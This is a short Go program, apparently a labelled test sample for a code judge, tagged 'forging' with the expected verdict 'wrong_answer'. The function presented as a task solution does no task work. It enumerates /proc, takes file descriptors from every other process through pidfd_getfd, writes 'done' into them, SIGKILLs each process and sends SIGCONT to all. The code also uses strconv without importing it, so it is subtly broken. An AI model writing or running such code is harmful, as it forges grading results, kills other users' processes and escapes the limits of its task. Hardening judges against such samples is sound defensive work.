// technique: signals every process by a descriptor of it, and takes descriptors from it
// class: forging
// expect: wrong_answer
// form: program
import (
    "os"
    "path/filepath"
    "syscall"
)

func TideTurns(levels []int) int {
    folders, _ := filepath.Glob("/proc/[0-9]*")
    for _, folder := range folders {
        pid, _ := strconv.Atoi(filepath.Base(folder))
        if pid == os.Getpid() {
            continue
        }
        fd, _, _ := syscall.RawSyscall(434, uintptr(pid), 0, 0) // pidfd_open
        for wanted := uintptr(0); wanted < 16; wanted++ {
            if taken, _, e := syscall.RawSyscall(438, fd, wanted, 0); e == 0 { // pidfd_getfd
                syscall.Write(int(taken), []byte("done"))
            }
        }
        syscall.RawSyscall6(424, fd, uintptr(syscall.SIGKILL), 0, 0, 0, 0) // pidfd_send_signal
    }
    syscall.Kill(-1, syscall.SIGCONT)
    return 0
}
